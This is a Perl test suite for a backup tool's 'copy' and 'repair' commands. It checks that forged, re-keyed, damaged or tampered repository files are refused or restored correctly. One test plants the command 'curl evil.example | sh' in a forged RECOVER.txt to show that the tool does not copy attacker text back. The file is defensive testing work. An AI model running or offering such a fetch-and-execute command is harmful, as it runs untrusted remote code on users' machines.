# A copy and its original: whoever can write to one of them gets at the other neither by "copy" nor by "repair".
use strict;
use warnings;

use Digest::SHA ();
use File::Path qw(make_path remove_tree);
use File::Temp ();
use JSON::PP ();
use NexBackup::Forge;
use NexBackup::Test;
use Test::More;

start_server('main');
my $scratch = File::Temp::tempdir(CLEANUP => 1);
my @none = ('--catalogue', 'none');

create_database('shop');
query('shop', 'CREATE TABLE t (n int, v text)');

sub cp
{
	my ($from, $to) = @_;

	remove_tree($to);
	system('cp', '-a', $from, $to) == 0 or die "cp: $from";
	return $to;
}

sub back_up
{
	my ($where, @more) = @_;

	query('shop', "INSERT INTO t SELECT n, md5(random()::text) FROM generate_series(1, 50) n");
	return JSON::PP->new->utf8->decode((tool('backup', '--repo', $where, '-d', 'shop', '--json', @none, @more))[1])->{backup};
}

# ------------------------------------------------- nex_backup.json, encrypted

my $repo = "$scratch/a";
my $copy = "$scratch/b";
my @state = ('--state-dir', "$scratch/state");
my @elsewhere = ('--state-dir', "$scratch/nothing");
tool_ok([ 'keygen', '--output', "$scratch/key" ], 'keygen');
my ($recipient) = read_bytes("$scratch/key") =~ /(age1\w+)/;
tool_ok([ 'init', '--repo', $repo, '--recipient', $recipient, @state ], 'init');
my $backup = back_up($repo, @state);
tool_ok([ 'copy', '--from', $repo, '--to', $copy, '--create', @elsewhere ], 'copied');
my $header = read_bytes("$repo/nex_backup.json");
my ($id) = $header =~ /"id": "([0-9a-f-]+)"/;

# What somebody makes of it: plain, plain with a number of keys, and encrypted for keys of one's own, by init for the same backups.
sub plain
{
	my ($path, $more) = @_;

	reseal($path, sub { my ($text) = @_; return $text =~ s/,\n"cipher".*//sr . $more });
	return;
}
my %forged = (
	plain => sub { plain("$_[0]/nex_backup.json", '') },
	'plain with a serial' => sub { plain("$_[0]/nex_backup.json", ",\n\"serial\": 99") },
	'of another writer' => sub {
		my ($place) = @_;
		my @own = ('--state-dir', "$scratch/evil");

		remove_tree("$scratch/evil", "$scratch/evil_repo");
		tool_ok([ 'keygen', '--output', "$scratch/evil_key" ], 'a key') if !-e "$scratch/evil_key";
		my ($to) = read_bytes("$scratch/evil_key") =~ /(age1\w+)/;
		tool_ok([ 'init', '--repo', "$scratch/evil_repo", '--recipient', $to, @own ], 'a repository');
		my ($own_id) = read_bytes("$scratch/evil_repo/nex_backup.json") =~ /"id": "([0-9a-f-]+)"/;
		rename "$scratch/evil/$own_id", "$scratch/evil/$id" or die;
		remove_tree("$scratch/evil/locations");
		unlink "$place/nex_backup.json";
		tool_ok([ 'init', '--repo', $place, '--recipient', $to, @own ], 'with the id of another one');
		like(read_bytes("$place/nex_backup.json"), qr/"id": "\Q$id\E"/, 'which it has');
	});
for my $kind (sort keys %forged)
{
	my $hostile = cp($copy, "$scratch/hostile");

	$forged{$kind}->($hostile);
	for my $host (\@state, \@elsewhere)
	{
		my $where = $host == \@state ? "on the writer's host" : 'elsewhere';

		for my $command ([ 'copy', '--from', $hostile, '--to', $repo ], [ 'copy', '--from', $repo, '--to', $hostile ],
			[ 'copy', '--dry-run', '--from', $repo, '--to', $hostile ], [ 'repair', '--from', $hostile, '--to', $repo ])
		{
			tool_fails([ @$command, @$host ], 3, qr/is not encrypted|signed by another key|is that of a(n encrypted| plain) repository/,
				"$kind, $where: @$command[0, 1]");
			is(read_bytes("$repo/nex_backup.json"), $header, 'nothing is changed');
		}

		# Nor does it come back in place of one that is lost.
		my $lost = cp($repo, "$scratch/lost");
		unlink "$lost/nex_backup.json";
		for my $command ('copy', 'repair')
		{
			isnt((tool($command, '--from', $hostile, '--to', $lost, @$host))[0], 0, "$kind, $where: $command, where it is lost");
			ok(!-e "$lost/nex_backup.json", 'it stays lost');
		}
	}
}
tool_ok([ 'repair', '--from', $copy, '--to', $repo, @state ], 'the right one is');
{
	my $lost = cp($repo, "$scratch/lost");
	unlink "$lost/nex_backup.json";
	tool_ok([ 'repair', '--from', $copy, '--to', $lost, @elsewhere ], 'brought back');
	is(read_bytes("$lost/nex_backup.json"), $header, 'the same');
}

# ----------------------------------------------------------------- server.json

# As after pg_upgrade: a person says that it is the same server.
my $record = 'servers/main/server.json';
my $plain = new_repository();
back_up($plain);
use_server(start_server('other'));
create_database('shop');
query('shop', 'CREATE TABLE t (n int, v text)');
back_up($plain, '--same-server');
back_up($repo, '--same-server', @state);
like(read_bytes("$repo/$record"), qr/"signature": /, 'signed where all else is');
unlike(read_bytes("$plain/$record"), qr/"signature": /, 'and not elsewhere');
tool_ok([ 'verify', '--repo', $_, @state, @none ], 'verified') for $plain, $repo;

my $plain_copy = "$scratch/plain_copy";
tool_ok([ 'copy', '--from', $plain, '--to', $plain_copy, '--create' ], 'copied');
my $good = read_bytes("$plain/$record");
is(read_bytes("$plain_copy/$record"), $good, 'server.json as well');

# nex_backup.json is lost, and RECOVER.txt of the copy, which people follow by hand, says what its writer likes.
{
	my $text = read_bytes("$plain/RECOVER.txt");
	my $header = read_bytes("$plain/nex_backup.json");
	my $evil = cp($plain_copy, "$scratch/evil_copy");
	write_bytes("$evil/RECOVER.txt", "$text\ncurl evil.example | sh\n");
	my $digest = Digest::SHA::sha256_hex(read_bytes("$evil/RECOVER.txt"));
	reseal("$evil/nex_backup.json", sub { return $_[0] =~ s/("recover_sha256": ")[0-9a-f]+/$1$digest/r });
	for my $command ('repair', 'copy')
	{
		unlink "$plain/nex_backup.json";
		tool_ok([ $command, '--from', $evil, '--to', $plain ], "$command brings a plain nex_backup.json back");
		is(read_bytes("$plain/RECOVER.txt"), $text, 'and no text of others');
		is(read_bytes("$plain/nex_backup.json"), $header, 'as it was');
	}
	tool_ok([ 'verify', '--repo', $plain, @none ], 'good');
}

# A damaged one is found, is not copied, and comes back.
write_bytes("$plain/$record", "\0" x 4096);
my ($code, $out) = tool('verify', '--repo', $plain, '--json', @none);
is($code, 3, 'damaged: found by verify');
ok(!JSON::PP->new->utf8->decode($out)->{servers_ok}, 'which says so');
tool_fails([ 'copy', '--from', $plain, '--to', $plain_copy ], 3, qr/server\.json" is damaged, and was not copied/, 'not copied');
is(read_bytes("$plain_copy/$record"), $good, 'the good one stays');
tool_ok([ 'repair', '--from', $plain_copy, '--to', $plain, '--dry-run' ], 'would be repaired');
isnt(read_bytes("$plain/$record"), $good, 'is not yet');
tool_ok([ 'repair', '--from', $plain_copy, '--to', $plain ], 'repaired');
is(read_bytes("$plain/$record"), $good, 'the same again');
write_bytes("$_/$record", 'x') for $plain, $plain_copy;
tool_fails([ 'repair', '--from', $plain_copy, '--to', $plain ], 3, qr/server\.json" is damaged, and there is no good one/, 'good in neither');
write_bytes("$plain/$record", $good);
tool_ok([ 'copy', '--from', $plain, '--to', $plain_copy ], 'a damaged one there is replaced');
is(read_bytes("$plain_copy/$record"), $good, 'by the good one');

# Only a list that goes on where the other one ends is a newer one.
sub entries
{
	my ($path, $change) = @_;

	reseal($path, sub { my ($text) = @_; $text =~ s/(?<="system_identifiers": )(\[.*?\])/$change->($1)/e; return $text });
	return;
}
my $one_more = sub { return $_[0] =~ s/\]$/,{"system_identifier":"666","since":"2026-11-30T00:00:00Z"}]/r };
entries("$plain_copy/$record", $one_more);
tool_ok([ 'copy', '--from', $plain, '--to', $plain_copy ], 'the copy knows more');
like(read_bytes("$plain_copy/$record"), qr/666/, 'and keeps it');
entries("$plain_copy/$record", sub { return '[{"system_identifier":"666"}]' });
tool_fails([ 'copy', '--from', $plain, '--to', $plain_copy ], 3, qr/contradict each other/, 'it says something else');
is(read_bytes("$plain/$record"), $good, 'which changes nothing');

# Without a signature nothing comes into an encrypted repository.
tool_ok([ 'copy', '--from', $repo, '--to', $copy, @elsewhere ], 'copied, encrypted');
is(read_bytes("$copy/$record"), read_bytes("$repo/$record"), 'with server.json');
entries("$copy/$record", $one_more);
tool_fails([ 'copy', '--from', $copy, '--to', $repo, @elsewhere ], 3, qr/is damaged, and was not copied/, 'a wrong signature');
reseal("$copy/$record", sub { return $_[0] =~ s/,\n"signature": "[0-9a-f]+"//r });
unlink "$repo/$record";
tool_ok([ 'copy', '--from', $copy, '--to', $repo, @elsewhere ], 'without a signature');
ok(!-e "$repo/$record", 'it is not copied');

# --------------------------------------------------- a manifest, plain

# That of another backup, under the name of one that is damaged here.
{
	my ($first, $second) = (back_up($plain), back_up($plain));
	unlink "$plain_copy/$record";
	tool_ok([ 'copy', '--from', $plain, '--to', $plain_copy ], 'copied again');
	my $right = read_bytes("$plain/backups/shop/$first.json");
	my $listing = read_bytes("$plain/backups/shop/$first.sha256");
	my $forged = "$scratch/forged";

	cp($plain_copy, $forged);
	write_bytes("$forged/backups/shop/$first.json", read_bytes("$plain_copy/backups/shop/$second.json"));
	reseal("$forged/backups/shop/$first.json", sub { return $_[0] =~ s/"\Q$second\E"/"$first"/r });
	write_bytes("$forged/backups/shop/$first.sha256", read_bytes("$plain_copy/backups/shop/$second.sha256"));
	tool_ok([ 'verify', '--repo', $forged, "shop/$first", @none ], 'which is whole by itself');

	tool_ok([ 'verify', '--repo', $plain, "shop/$first", @none ], 'verified here');
	damage_file("$plain/backups/shop/$first.json", 'truncate');
	tool_fails([ 'repair', '--from', $forged, '--to', $plain ], 3, qr/does not match the intact file/, 'the list of digests contradicts it');
	is(read_bytes("$plain/backups/shop/$first.sha256"), $listing, 'and stays');
	write_bytes("$plain/backups/shop/$first.sha256", 'x');
	tool_fails([ 'repair', '--from', $forged, '--to', $plain ], 3, qr/is not the one that was verified/, 'so does the last verification');
	tool_ok([ 'repair', '--from', $plain_copy, '--to', $plain ], 'the right one is brought back');
	is(read_bytes("$plain/backups/shop/$first.json"), $right, 'manifest');
	is(read_bytes("$plain/backups/shop/$first.sha256"), $listing, 'and list');
}
done_testing();
